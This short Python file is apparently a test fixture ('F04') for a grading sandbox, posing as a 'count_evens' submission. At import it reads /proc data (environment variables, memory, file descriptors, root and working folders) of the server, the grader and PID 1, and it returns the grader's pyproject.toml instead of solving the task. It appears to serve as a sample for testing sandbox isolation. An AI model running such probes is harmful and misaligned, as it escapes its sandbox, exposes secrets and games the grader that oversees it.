"""F04: reads through /proc: its own root and working folder, and those of the server and the grader."""

# %% count_evens
import os


def read(path):
    try:
        print(path, open(path, "rb").read()[:2000] if not os.path.isdir(path) else os.listdir(path))
    except OSError as error:
        print(error)


for pid in ("self", "thread-self", os.getppid(), GRADER, 1):
    for name in ("root", "cwd"):
        read(f"/proc/{pid}/{name}{VICTIM}/decoy.txt")
        read(f"/proc/{pid}/{name}")
    for name in (
        "environ",
        "cmdline",
        "maps",
        "status",
        "fd",
        "mountinfo",
        "mem",
        "exe",
        "task",
        "auxv",
        "stack",
    ):
        if pid not in ("self", "thread-self"):
            read(f"/proc/{pid}/{name}")
    for number in range(20):
        if pid not in ("self", "thread-self"):
            read(f"/proc/{pid}/fd/{number}")


def count_evens(numbers):
    return open(f"/proc/{GRADER}/root{COURSE}/pyproject.toml").read()
